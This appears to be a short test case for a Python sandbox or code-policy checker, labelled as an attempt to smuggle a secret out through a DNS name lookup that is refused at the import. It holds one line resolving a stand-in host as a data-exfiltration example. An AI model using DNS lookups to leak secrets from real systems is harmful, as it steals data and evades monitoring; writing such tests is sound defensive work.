# Tries: to smuggle a secret out in a name lookup
# Refused: import
import socket
socket.getaddrinfo("secret.example.com", 80)
